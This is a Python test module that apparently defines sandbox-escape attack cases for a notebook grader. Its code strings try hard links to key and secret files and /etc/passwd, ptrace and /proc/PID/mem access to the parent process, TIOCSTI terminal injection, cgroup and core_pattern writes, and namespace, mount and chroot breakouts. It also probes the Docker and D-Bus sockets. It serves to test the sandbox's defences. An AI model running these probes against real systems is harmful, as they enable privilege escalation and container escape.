# ruff: noqa: E501 - what is handed in is text, and its longest lines stay as they would be written
"""Escaping: out of the process, the folder, the namespaces, and into the kernel or the network."""

from tests.attacks.attack import RIGHT, Attack

# What an attack prints when it got through; it never stands like this in its source.
WON = """\
def won(what=""):
    print("w" + "on-@MARK@", what)
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
def syscall(number, *args):
    ctypes.set_errno(0)
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
def apart(function):
    pid = os.fork()
    if pid == 0:
        try:
            function()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
def plant(*ways):
    for way in ways or ("",):
        try:
            open(f"{way}@OUTSIDE@/@MARK@", "w").close()
        except OSError:
            pass
"""


def _escape(name: str, tries: str, first: str, **more: object) -> Attack:
    options = {"answers": RIGHT, "earns": 100} | more
    return Attack(name=f"escape-{name}", category="escape", tries=tries, first=WON + first, **options)  # type: ignore[arg-type]


FILES = [
    _escape("write-outside", "Writes into the folders of the host, the repository, the class and the system.",
            """\
import glob, sys, tempfile
for place in ('@OUTSIDE@', '@ROOT@', '@COURSE@', '/', '/tmp', '/var/tmp', '/dev/shm', '/run', '/etc', '/opt', '/srv'):
    plant_here = f'{place}/@MARK@'
    try:
        open(plant_here, 'w').close()
    except OSError:
        pass"""),
    _escape("shell-magics", "Writes outside with IPython's own magics and a shell.",
            """\
get_ipython().system('touch @OUTSIDE@/@MARK@ 2>/dev/null')
get_ipython().run_cell_magic('writefile', '@OUTSIDE@/@MARK@-2', 'x') if os.path.isdir('@OUTSIDE@') else None"""),
    _escape("symlinks", "Puts symbolic links where the host may write or read later.",
            """\
for name in ('target.ipynb', 'cases.safetensors', 'release.json', 'checks_public.py', 'out', 'feedback', 'core', '.ipython'):
    try:
        os.replace(name, name + '.old') if os.path.exists(name) else None
        os.symlink('@OUTSIDE@/@MARK@', name)
    except OSError:
        pass"""),
    _escape("hard-links", "Makes hard links to files of the host's inside its own folder.",
            """\
for number, path in enumerate(('@KEY@', '@SECRET_FILE@', '@SIBLING@', '/etc/passwd')):
    try:
        os.link(path, f'link{number}')
        won(path)
    except OSError:
        pass"""),
    _escape("roots-of-others", "Writes through the root and the working folder of other processes.",
            "plant(*(f'/proc/{pid}/{way}' for pid in ['1', str(os.getppid()), 'self'] for way in ('root', 'cwd/../../../../../..')))"),
    _escape("open-folders", "Climbs out through a folder that somebody left open.",
            """\
for fd in range(3, 256):
    for way in ('@OUTSIDE@'.lstrip('/'), '../../../../../../..@OUTSIDE@'):
        try:
            os.close(os.open(f'{way}/@MARK@', os.O_CREAT | os.O_WRONLY, dir_fd=fd))
        except (OSError, NotImplementedError):
            pass"""),
    _escape("by-handle", "Opens a file of the host's by its handle, past every folder.",
            """\
mount = os.open('/', os.O_RDONLY)
handle = ctypes.create_string_buffer(struct.pack('<II', 8, 1) + struct.pack('<II', 2, 0) + b'\\0' * 120)
found = syscall(304, mount, handle, os.O_RDONLY)
if found >= 0: won('open_by_handle_at')"""),
    _escape("devices", "Opens the machine's memory and disks, or makes device nodes for them.",
            """\
for path in ('/dev/mem', '/dev/kmem', '/dev/port', '/dev/vda', '/dev/sda', '/dev/nvme0n1', '/dev/loop-control', '/dev/fuse', '/dev/net/tun'):
    try:
        os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
        won(path)
    except OSError:
        pass
import stat
for name, number in (('disk', os.makedev(254, 0)), ('memory', os.makedev(1, 1))):
    try:
        os.mknod(name, 0o600 | stat.S_IFBLK, number)
        os.close(os.open(name, os.O_RDONLY))
        won(name)
    except OSError:
        pass"""),
    _escape("sysfs", "Writes to the kernel's files: its control groups, its core pattern, its parameters.",
            """\
for path in ('/proc/sys/kernel/core_pattern', '/sys/kernel/uevent_helper', '/proc/sysrq-trigger', '/proc/sys/kernel/modprobe', '/sys/fs/cgroup/cgroup.procs'):
    try:
        os.close(os.open(path, os.O_WRONLY))
        won(path)
    except OSError:
        pass"""),
    _escape("control-groups", "Moves itself into another control group, or makes one without limits.",
            """\
import glob
for path in glob.glob('/sys/fs/cgroup/**/cgroup.procs', recursive=True) + glob.glob('/sys/fs/cgroup/**/release_agent', recursive=True):
    try:
        with open(path, 'w') as file:
            file.write(str(os.getpid()))
        won(path)
        break
    except OSError:
        pass""", dangerous=True),
]  # fmt: skip

PROCESSES = [
    _escape("trace-the-parent", "Attaches to the process that started it.",
            """\
above = os.getppid()
if above > 1 and libc.ptrace(16, above, 0, 0) == 0:
    os.waitpid(above, 0x40000000)
    libc.ptrace(17, above, 0, 0)
    won('ptrace')""",
            dangerous=True),
    _escape("read-the-parent", "Reads the memory of the process that started it without stopping it, and takes its files.",
            """\
above = os.getppid()
if above > 0:
    try:
        with open(f'/proc/{above}/mem', 'r+b', 0): won('/proc/PID/mem')
    except OSError:
        pass
    fd = syscall(434, above, 0)
    if fd >= 0 and any(syscall(438, fd, n, 0) >= 0 for n in range(3, 40)): won('pidfd_getfd')
    if os.path.exists(f'/proc/{above}/root/'): won('/proc/PID/root')"""),
    _escape("outlive", "Leaves processes behind: a daemon, a session of its own, one that ignores every signal.",
            """\
import subprocess, sys
os.environ['MARK'] = '@MARK@'
for text in ('import time; time.sleep(90)',
             'import signal, time\\nfor n in range(1, 65):\\n    try: signal.signal(n, signal.SIG_IGN)\\n    except (OSError, ValueError): pass\\ntime.sleep(90)'):
    subprocess.Popen([sys.executable, '-c', text], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
if os.fork() == 0:
    os.setsid()
    if os.fork(): os._exit(0)
    os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(90)', '@MARK@'])
os.wait()"""),
    _escape("outlive-the-check", "Leaves a process behind from within a check.",
            """\
import subprocess, sys
def leave():
    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(90)', '@MARK@'], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)""",
            answers=RIGHT | {"scale": "def scale(x):\n    leave()\n    return 3 * x - 1"}, earns=None),
    _escape("limits-of-others", "Changes the limits and the priorities of processes that are not its own.",
            """\
import resource
for pid in {os.getppid(), *(int(p) for p in os.listdir('/proc') if p.isdigit())} - {os.getpid(), 0}:
    try:
        resource.prlimit(pid, resource.RLIMIT_CORE, (0, 0))
        if 'PROBE' not in open(f'/proc/{pid}/environ').read(): won('prlimit')
    except OSError:
        pass""",
            dangerous=True),
    _escape("raise-own-limits", "Raises its own limits, priority and score for being killed.",
            """\
import resource
for which in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
    before = resource.getrlimit(which)
    try:
        resource.setrlimit(which, (resource.RLIM_INFINITY,) * 2)
        if before[1] != resource.RLIM_INFINITY: won('setrlimit')
    except (OSError, ValueError):
        pass
try:
    os.nice(-5)
    won('nice')
except OSError:
    pass
try:
    os.write(os.open('/proc/self/oom_score_adj', os.O_WRONLY), b'-500')
    won('oom_score_adj')
except OSError:
    pass"""),
    _escape("terminal", "Types a command into the terminal that the grader was started from.",
            """\
import fcntl, termios
for path in ('/dev/tty', '/dev/console', '/dev/pts/0', '/dev/tty1'):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        for letter in 'touch @OUTSIDE@/@MARK@\\n': fcntl.ioctl(fd, termios.TIOCSTI, letter.encode())
    except OSError:
        pass""", dangerous=True),
    _escape("set-user", "Becomes root: by setuid programs and by asking.",
            """\
import glob, stat, subprocess
if os.getuid():
    for path in glob.glob('/usr/bin/*') + glob.glob('/usr/lib/*/*'):
        try:
            if os.stat(path).st_mode & stat.S_ISUID and os.path.basename(path) in ('su', 'sudo', 'mount', 'pkexec', 'newgrp'):
                said = subprocess.run([path, '-c', 'id -u'], capture_output=True, timeout=1, stdin=-3).stdout
                if said.strip() == b'0': won(path)
        except (OSError, subprocess.SubprocessError):
            pass
    try:
        os.setuid(0)
        won('setuid')
    except OSError:
        pass"""),
    _escape("new-privileges", "Looks for capabilities that it still has.",
            """\
lines = dict(line.split(':', 1) for line in open('/proc/self/status') if ':' in line)
if int(lines['CapEff'], 16) or int(lines['CapBnd'], 16): won('capabilities')
if lines['NoNewPrivs'].strip() != '1': won('may gain privileges')
if lines['Seccomp'].strip() != '2': won('no filter')"""),
]  # fmt: skip

KERNEL = [
    _escape("namespaces", "Makes namespaces of its own, in which it is root again.",
            """\
def make():
    for flags in (0x10000000, 0x10020000, 0x40000000, 0x02000000):
        if libc.unshare(flags) == 0: won(f'unshare {flags:x}')
apart(make)"""),
    _escape("clone-namespaces", "Makes a process in namespaces of its own, past a filter on unshare.",
            """\
for number, args in ((56, (0x10000011, 0, 0, 0, 0)), (435, (ctypes.create_string_buffer(struct.pack('<11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)), 88))):
    pid = syscall(number, *args)
    if pid == 0: os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
        won(f'clone {number}')"""),
    _escape("join-namespaces", "Joins the namespaces of the processes that started it.",
            """\
def join():
    for pid in (1, os.getppid()):
        for kind in ('user', 'mnt', 'pid', 'net', 'ipc'):
            try:
                fd = os.open(f'/proc/{pid}/ns/{kind}', os.O_RDONLY)
            except OSError:
                continue
            if os.readlink(f'/proc/{pid}/ns/{kind}') != os.readlink(f'/proc/self/ns/{kind}') and libc.setns(fd, 0) == 0:
                won(kind)
                plant()
apart(join)"""),
    _escape("mount", "Mounts over its folders, and the host's disk into them.",
            """\
def mount():
    os.makedirs('m', exist_ok=True)
    for source, kind, flags in (('none', 'tmpfs', 0), ('proc', 'proc', 0), ('/', '', 4096), ('none', 'overlay', 0)):
        if libc.mount(source.encode(), b'm', kind.encode() or None, flags, None) == 0: won(f'mount {kind}')
    if libc.mount(b'none', b'/', None, 0x20 | 4096, None) == 0: won('remount')
    for number in (428, 429, 430, 442):
        if syscall(number, -100, b'/', 1) >= 0: won(f'new mount call {number}')
    if libc.umount2(b'/proc', 2) == 0: won('umount')
apart(mount)""", dangerous=True),
    _escape("chroot", "Changes its root, and breaks out of the old one.",
            """\
def leave():
    try:
        os.makedirs('r', exist_ok=True)
        os.chroot('r')
        for _ in range(40): os.chdir('..')
        os.chroot('.')
        won('chroot')
        plant()
    except OSError:
        pass
apart(leave)"""),
    _escape("keyctl", "Keeps something in the kernel's key rings, which outlive a process.",
            """\
if syscall(250, 0, -3, 1) > 0: won('keyctl')
if syscall(248, b'user', b'@MARK@', b'x', 1, -4) > 0: won('add_key')"""),
    _escape("bpf", "Loads something into the kernel's own virtual machine.",
            "if syscall(321, 0, ctypes.create_string_buffer(struct.pack('<4I', 2, 4, 4, 1) + bytes(120)), 128) >= 0: won('bpf')"),
    _escape("userfaultfd", "Takes over the handling of its page faults, the usual help of an exploit.",
            "if syscall(323, 1 | os.O_CLOEXEC) >= 0: won('userfaultfd')"),
    _escape("io-uring", "Opens a ring through which system calls pass no filter.",
            "if syscall(425, 4, ctypes.create_string_buffer(120)) >= 0: won('io_uring')"),
    _escape("perf", "Opens the kernel's performance counters.",
            "if syscall(298, ctypes.create_string_buffer(struct.pack('<IIQQ', 1, 112, 1, 0) + bytes(88)), 0, -1, -1, 0) >= 0: won('perf_event_open')"),
    _escape("odd-syscalls", "Tries system calls that a grader's student never needs.",
            """\
for name, number, args in (('kcmp', 312, (os.getpid(), os.getpid(), 0, 0, 0)), ('fanotify_init', 300, (0, 0)), ('acct', 163, (0,)), ('iopl', 172, (3,)),
                           ('personality', 135, (0x0400000,)), ('memfd_secret', 447, (0,)), ('pivot_root', 155, (b'.', b'.')), ('swapoff', 168, (b'/none@MARK@',)),
                           ('lookup_dcookie', 212, (0, 0, 0)), ('modify_ldt', 154, (0, ctypes.create_string_buffer(64), 64))):
    result = syscall(number, *args)
    if result >= 0 or ctypes.get_errno() not in (1, 13, 38): won(f'{name} {result} {ctypes.get_errno()}')"""),
    _escape("x32-syscalls", "Makes system calls by their other numbers, which a filter may have forgotten.",
            "if syscall(0x40000000 + 39) == os.getpid(): won('x32')"),
]  # fmt: skip

NETWORK = [
    _escape("network", "Sends its notebook to a port of the host's and to an abstract socket.",
            """\
import socket
for family, kind, place in ((socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', int('@TCP@'))), (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', int('@UDP@'))),
                            (socket.AF_UNIX, socket.SOCK_STREAM, '\\0@ABSTRACT@')):
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(1)
            sock.connect(place)
            sock.send(b'@MARK@')
    except OSError:
        pass"""),
    _escape("network-from-a-check", "Sends what a check asks to a port of the host's.",
            """\
import socket
def send(word):
    for kind, port in ((socket.SOCK_STREAM, int('@TCP@')), (socket.SOCK_DGRAM, int('@UDP@'))):
        try:
            with socket.socket(socket.AF_INET, kind) as sock:
                sock.settimeout(0.2)
                sock.connect(('127.0.0.1', port))
                sock.send(b'@MARK@' + word.encode())
        except OSError:
            pass""",
            answers=RIGHT | {"spell": "def spell(word):\n    send(word)\n    return word[::-1]"}),
    _escape("routes", "Looks for a way out of the machine: interfaces, routes, name servers.",
            """\
import socket
if {name for _, name in socket.if_nameindex()} - {'lo'}: won('interfaces')
try:
    socket.create_connection(('192.0.2.1', 9), 0.3)
except OSError as error:
    if error.errno not in (101, 1, 13, 97, 93, 22): won(f'a route: {error}')"""),
    _escape("raw-sockets", "Opens sockets of families and kinds that a student never needs.",
            """\
import socket
for name, family, kind, protocol in (('packet', 17, 3, 0x0300), ('vsock', 40, 1, 0), ('netlink', 16, 3, 0), ('raw', 2, 3, 1), ('alg', 38, 5, 0),
                                     ('bluetooth', 31, 3, 1), ('can', 29, 3, 1), ('xdp', 44, 3, 0), ('key', 15, 3, 2), ('tipc', 30, 1, 0)):
    try:
        socket.socket(family, kind, protocol).close()
        won(name)
    except OSError:
        pass"""),
    _escape("service-sockets", "Talks to the services of the host: its bus, its containers, its windows.",
            """\
import socket
for place in ('/run/dbus/system_bus_socket', '/run/docker.sock', '/var/run/docker.sock', '/run/containerd/containerd.sock', '/tmp/.X11-unix/X0', '/run/systemd/private',
              '\\0/tmp/.X11-unix/X0', '/run/systemd/journal/socket', '/run/user/0/bus', '/run/munge/munge.socket.2'):
    try:
        with socket.socket(socket.AF_UNIX) as sock: sock.connect(place)
        won(place)
    except OSError:
        pass"""),
]  # fmt: skip

ESCAPE = [*FILES, *PROCESSES, *KERNEL, *NETWORK]
